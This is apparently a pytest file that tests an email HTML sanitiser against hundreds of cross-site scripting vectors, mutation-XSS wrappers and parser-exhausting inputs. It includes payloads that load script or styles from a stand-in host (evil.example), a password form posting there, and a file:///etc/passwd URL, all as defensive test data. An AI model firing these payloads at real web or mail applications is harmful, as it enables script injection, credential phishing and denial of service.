"""HTML that wants to run, to load, to cover or to cost."""

import itertools

import pytest

from chalicelib.channels.email.body.sanitise import sanitised
from tests.attacks.judge import faults
from tests.channels.email.mails import html_mail, read
from tests.kit.pace import within

EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "OnErRoR",
    "on\u0000error",
    "/onerror",
    "onscroll",
]
TAGS = [
    "img src=x",
    "svg",
    "body",
    "div",
    "a href=x",
    "details open",
    "input autofocus",
    "video",
    "math",
    "marquee",
    "p style='color:red'",
    "iframe",
    "b",
    "table background=x",
]
URLS = [
    "javascript:x()",
    "JaVaScRiPt:x()",
    "java\tscript:x()",
    "java\nscript:x()",
    "\u0001javascript:x()",
    "javascript&colon;x()",
    "&#106;avascript:x()",
    "data:text/html,<script>x()</script>",
    "data:image/svg+xml,<svg onload=x()>",
    "vbscript:x()",
    "view-source:x",
    "file:///etc/passwd",
    "//evil.example/x",
    "/x",
    "?x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "blob:x",
]
CARRIERS = [
    "a href",
    "img src",
    "iframe src",
    "form action",
    "base href",
    "link href",
    "object data",
    "embed src",
    "area href",
    "button formaction",
    "input src",
    "video poster",
    "body background",
    "table background",
    "img srcset",
    "img data-src",
    "a xlink:href",
    "q cite",
]
WRAPPERS = [
    "{}",
    "<svg>{}</svg>",
    "<math><mtext>{}</mtext></math>",
    "<noscript>{}</noscript>",
    "<template>{}</template>",
    "<svg><style>{}</style></svg>",
    "<!--{}-->",
    "<xmp>{}</xmp>",
    "<title>{}</title>",
    "<math><mglyph><style>{}",
    "<table><caption>{}",
    "<select>{}",
    "<p title='{}'>",
    "<a><b>{}",
    "<![CDATA[{}]]>",
]
ODD = [
    "<script>x()</script>",
    "<scr<script>ipt>x()</script>",
    "<script/src=//evil.example>",
    "<ScRiPt\n>x()</ScRiPt >",
    "<<script>x()//<</script>",
    "<script>x()",
    "</script><script>x()",
    "<svg><script>x()</script>",
    "<svg><p><style><img src=x onerror=x()>",
    "<math><mi//xlink:href='javascript:x()'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "<a title='<img src=x onerror=x()>'>",
    "<img src='x' title='\"><script>x()</script>'>",
    '<img """><script>x()</script>">',
    "<b <script>x()</script>0",
    "<img src=`x` onerror=x()>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}",
    "<div style=\"background:url('https://evil.example')\">",
    "<div style='width:expression(x())'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover",
    "<div style='color:red;/**/position:fixed'>",
    "<div style='\\70osition:fixed'>",
    "<div style='behavior:url(x.htc)'>",
    "<div style='-moz-binding:url(x)'>",
    "<p style='font-family:\"x;position:fixed;\"'>",
    "<p style='color:rgb(1,2,3);background:URL(x)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base target=_top href=//evil>",
    "<iframe srcdoc='<script>x()</script>'>",
    "<object data=x><embed src=x>",
    "<link rel=stylesheet href=x>",
    "<form action=//evil.example><input name=password><button formaction=x>OK</button></form>",
    "<a href='https://ok.example' target=_top ping='//evil.example' onclick=x()>x</a>",
    "<img src=data:image/png;base64,AAAA>",
    "<img lowsrc=x dynsrc=x>",
    "<picture><source srcset=//x>",
    "<plaintext><script>x()",
    "<isindex action=j&Tab;avas&NewLine;cript:x()>",
    "<?xml-stylesheet href=x?>",
    "\u0000<script>x()</script>",
    "<\u0000script>x()</script>",
    "<img/src/onerror=x()>",
    "<img\fsrc=x\fonerror=x()>",
    "+ADw-script+AD4-x()+ADw-/script+AD4-",
    "\u3008script\u3009x()",
    "&lt;script&gt;x()&lt;/script&gt;",
    "<p>\u0338<script>x()</script>",
    "<a href='https://x.example\"onclick=x()'>",
    "<!--><script>x()</script>-->",
]
VECTORS = [
    *(f"<{tag} {event}=x()>" for tag, event in itertools.product(TAGS, EVENTS)),
    *(f'<{carrier}="{url}">x' for carrier, url in itertools.product(CARRIERS, URLS)),
    *(wrapper.format(odd) for wrapper, odd in itertools.product(WRAPPERS, ODD)),
]


def test_there_are_enough_of_them() -> None:
    assert len(set(VECTORS)) >= 500


@pytest.mark.parametrize(
    "wrapper", ["{}", "<div><p>before</p>{}", "<table><tr><td>{}", '<a title="{}']
)
def test_nothing_that_runs_loads_or_covers_gets_through(wrapper: str) -> None:
    clean = {vector: sanitised(wrapper.format(vector)) for vector in VECTORS}

    assert {vector: html for vector, html in clean.items() if html is None or faults(html)} == {}


def test_markup_in_words_subject_and_names_stays_words() -> None:
    raw = (
        b'From: "<img src=x onerror=x()>" <ann@customer.example>\r\n'
        b"Subject: <script>x()</script>\r\nMessage-ID: <a@b>\r\n\r\n<b onclick=x()>words</b>"
    )

    message = read(raw)

    assert message.html is None
    assert message.subject == "<script>x()</script>"
    assert message.text == "<b onclick=x()>words</b>"


@pytest.mark.parametrize(
    ("source", "clean"),
    [
        ("https://evil.example/p.gif", '<img data-src="https://evil.example/p.gif">'),
        ("HTTP://evil.example/p.gif", '<img data-src="HTTP://evil.example/p.gif">'),
        ("//evil.example/p.gif", '<img data-src="https://evil.example/p.gif">'),
        ("/p.gif", "<img>"),
        ("p.gif", "<img>"),
        ("cid:part1@customer.example", '<img src="cid:part1@customer.example">'),
        ("data:image/png;base64,AAAA", "<img>"),
    ],
)
def test_no_picture_is_loaded_until_a_person_allows_it(source: str, clean: str) -> None:
    assert sanitised(f'<img src="{source}" srcset="{source} 2x">') == clean


def test_a_charset_does_not_smuggle_tags() -> None:
    raw = html_mail("+ADw-script+AD4-x()+ADw-/script+AD4-words").replace(b"utf-8", b"utf-7")

    assert read(raw).html == "words"


COSTLY = {
    "nested": "<div>" * 100_000,
    "attributes": "<a " + " ".join(f"a{number}=1" for number in range(100_000)) + ">",
    "tables with links": "<table><a>" * 3_000,
    "open formatting": "".join(f"<b title={number}>" for number in range(200)) + "<p>x" * 9_000,
    "style": f"<style>{'x' * 900_000}</style>",
    "unclosed comments": "<!--" * 200_000,
    "unclosed scripts": "<script>" * 100_000,
    "unclosed quotes": "<a b='" * 100_000,
    "entities": "&#1" * 300_000,
    "angles": "<" * 900_000,
}


@pytest.mark.parametrize("name", COSTLY)
def test_html_that_is_made_to_cost_costs_little(name: str) -> None:
    with within(2):
        message = read(html_mail(COSTLY[name]))

    assert message.html is None or not faults(message.html)


@pytest.mark.parametrize("name", ["nested", "tables with links"])
def test_html_past_the_bounds_is_shown_as_text_with_a_notice(name: str) -> None:
    message = read(html_mail(COSTLY[name] + "<p>my lamp"))

    assert message.html is None
    assert message.notice == "html_dropped"
    assert "my lamp" in message.text
